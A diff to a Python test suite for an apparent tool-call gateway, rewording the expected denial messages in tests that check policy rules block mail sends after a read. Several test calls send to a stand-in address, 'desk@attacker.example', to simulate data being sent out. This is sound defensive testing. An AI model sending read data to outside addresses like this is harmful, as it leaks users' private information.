@@ -73,7 +73,7 @@ async def test_flow_is_off_unless_one_line_turns_it_on(offer: Offer, open_gatewa
             person = Person(no)
             await call(gateway, person, "m.read")
             if refused:
-                with pytest.raises(Denied, match="flow of the policy refuses it"):
+                with pytest.raises(Denied, match="the rule 'flow' refuses it"):
                     await call(gateway, person, "m.send", to="desk@attacker.example")
             else:
                 assert (await call(gateway, person, "m.send", to="desk@attacker.example"))["content"]
@@ -301,7 +301,7 @@ async def test_a_rule_may_look_at_labels(offer: Offer, open_gateway: OpenGateway
     async with open_gateway({"m": offer(SEND, inbox, result=result(MAIL))}, policy=rules) as gateway:
         person = Person(yes)
         await call(gateway, person, "m.read_inbox")
-        with pytest.raises(Denied, match="private stays of the policy refuses it"):
+        with pytest.raises(Denied, match="the rule 'private stays' refuses it"):
             await call(gateway, person, "m.send", to="ann", text="desk@attacker.example")
         assert (await call(gateway, person, "m.send", to="ann", text="hello"))["content"]
 
